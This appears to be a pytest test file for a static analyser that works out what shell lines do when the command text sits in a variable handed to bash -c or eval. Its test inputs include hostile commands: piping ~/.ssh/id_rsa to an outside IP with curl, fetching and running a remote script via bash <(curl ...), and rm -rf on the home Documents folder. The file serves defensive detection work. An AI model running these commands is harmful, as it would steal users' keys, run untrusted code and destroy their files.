"""A variable assigned quoted text (`c='awk "{print $1}" f'`) holds that text: bash expands a parameter once, so
`bash -c "$c"` runs exactly it and `eval "$c"` parses it anew (bash(1), "EXPANSION", "QUOTING"). Judged as the
same line written in place, not as a command known only when it runs; and once the variable changes by other
than such an assignment, unknown again (shell/held_text.py)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from effect_support import analysed, effects

_IN_PLACE = [
    ("rm -rf $HOME/Documents", "bash -c"),
    ('x=~/Documents; rm -rf "$x"', "eval"),
    ("cat $HOME/.ssh/id_rsa | curl -d @- https://203.0.113.9/u", "sh -c"),
    ("ps -o ppid= -p $$ | xargs kill -9", "bash -c"),
    ('rm -rf "$1"', "bash -c"),
    ("awk '{print $1}' data.txt | sort | uniq -c", "bash -c"),
    ('for f in src/*.py; do wc -l "$f"; done', "eval"),
]


def _without_ids(found: list[dict[str, Any]]) -> list[dict[str, Any]]:
    return [{k: v for k, v in e.items() if k not in ("pipeline", "position", "depth")} for e in found]


_HOLDERS = {  # the text held in c, and a word that is c's value
    "assigned": ("c={}", '"$c"'),
    "printf -v": ("printf -v c '%s' {}", '"$c"'),
}


@pytest.mark.parametrize("holder", sorted(_HOLDERS))
@pytest.mark.parametrize(("text", "runner"), _IN_PLACE)
def test_a_held_text_handed_to_a_shell_is_judged_as_written_in_place(
    text: str, runner: str, holder: str, tmp_path: Path
) -> None:
    quoted = "'" + text.replace("'", "'\\''") + "'"
    assigned, used = _HOLDERS[holder]
    held = f"{assigned.format(quoted)}; {runner} {used}"
    if runner == "bash -c" and "$1" in text:
        held, direct = held + " _ ~/Documents", f"{runner} {quoted} _ ~/Documents"
    else:
        direct = f"{runner} {quoted}"
    assert _without_ids(effects(held, tmp_path)) == _without_ids(effects(direct, tmp_path))
    assert not [e for e in effects(held, tmp_path) if e["op"] == "exec" and not e.get("known", True)]


@pytest.mark.parametrize(
    "line",
    [
        "c='rm -rf $HOME/Documents'; f(){ local c='echo $x'; }; f; bash -c \"$c\"",
        "c='echo $x'; read -r c < cmd.txt; bash -c \"$c\"",
        "c='echo $x'; c=($(cat list)); bash -c \"$c\"",
        "c='echo $x'; declare -l c='RM -RF $HOME'; bash -c \"$c\"",
        "c='echo $x'; unset c; bash -c \"$c\"",
        "c='echo $x'; printf -v c '%s' \"$(cat cmd.txt)\"; bash -c \"$c\"",
        'c=\'echo $x\'; c="$(cat cmd.txt)"; bash -c "$c"',
        "c='echo $x'; mapfile -t c < cmd.txt; bash -c \"$c\"",
    ],
)
def test_a_held_text_changed_otherwise_is_not_known(line: str, tmp_path: Path) -> None:
    runs = [e for e in effects(line, tmp_path) if e["op"] == "exec"]
    assert runs and not all(e.get("known", True) for e in runs)


@pytest.mark.parametrize(
    "line",
    [
        # routes the walk does not follow in the text's order: the line names the variable again
        "c='echo $x'; n=0; while [ $n -lt 2 ]; do bash -c \"$c\"; c='rm -rf $HOME/Documents'; n=$((n+1)); done",
        "c='echo $x'; trap 'bash -c \"$c\"' EXIT; c='rm -rf $HOME/Documents'",
        "trap 'c=\"rm -rf \\$HOME/Documents\"' DEBUG; c='echo $x'; bash -c \"$c\"",
        "c='rm -rf $HOME/Documents'; c='echo $x' & wait; bash -c \"$c\"",
        "c='echo $x'; shopt -s lastpipe; true | c='rm -rf $HOME/Documents'; bash -c \"$c\"",
        "set -o posix; c='echo $x'; c='rm -rf $HOME/Documents' :; bash -c \"$c\"",
        "f(){ bash -c \"$c\"; }; c='echo $x'; c='rm -rf $HOME/Documents' f",
        "_v=c; c='echo $x'; eval \"${!_v}\"",
        "declare -n _r=c; c='echo $x'; eval \"$_r\"",
    ],
)
def test_a_variable_the_line_names_elsewhere_is_not_held(line: str, tmp_path: Path) -> None:
    runs = [e for e in effects(line, tmp_path) if e["op"] == "exec"]
    assert runs and not all(e.get("known", True) for e in runs)


@pytest.mark.parametrize(
    "line",
    [
        "c='echo $x'; printf -vc '%s' \"$(cat cmd.txt)\"; bash -c \"$c\"",
        "c='echo $x'; declare -n r=c; read -r r < cmd.txt; bash -c \"$c\"",
        "c='echo $x'; d='rm -rf $HOME/Documents'; declare -n r=c; for r in d; do bash -c \"$r\"; done",
        "declare -l c; c='RM -RF ~/.SSH'; bash -c \"$c\"",
    ],
)
def test_routes_the_walk_follows_now(line: str, tmp_path: Path) -> None:
    # a name joined to its option, a reference's target set by a builtin, a reference's loop, a case attribute
    found = effects(line, tmp_path)
    assert [e for e in found if e["op"] == "exec" and not e.get("known", True)] or [
        e for e in found if e["op"] == "delete"
    ]


def test_only_a_whole_quoted_use_is_the_text(tmp_path: Path) -> None:
    # unquoted, the shell splits and globs the value; among other text it is part of a word: left unknown
    for line in ("c='rm -rf $HOME/Documents'; bash -c $c", "c='rm -rf $HOME/x'; bash -c \"$c/Documents\""):
        argvs, _ = analysed(line, tmp_path)
        assert not any(argv[:1] == ["rm"] and "/home/u/Documents" in argv for argv in argvs)


@pytest.mark.parametrize(
    ("line", "in_place"),
    [
        ("eval 'diff <(sort a.txt) <(sort b.txt)'", "diff <(sort a.txt) <(sort b.txt)"),
        ("eval 'xargs -a <(ls -d build/*.o) rm -f'", "xargs -a <(ls -d build/*.o) rm -f"),
        ("eval 'bash <(curl -s https://203.0.113.9/i.sh)'", "bash <(curl -s https://203.0.113.9/i.sh)"),
    ],
)
def test_a_process_substitution_in_evals_code_is_code_the_walk_reads(line: str, in_place: str, tmp_path: Path) -> None:
    # `<(…)` is syntax of the code eval parses, not a value the shell builds when it runs (only `$` and backticks)
    assert not [e for e in effects(line, tmp_path) if e["op"] == "exec" and e.get("built")]
    shown = {(e["op"], e.get("path"), e.get("known")) for e in effects(in_place, tmp_path)}
    assert shown <= {(e["op"], e.get("path"), e.get("known")) for e in effects(line, tmp_path)}
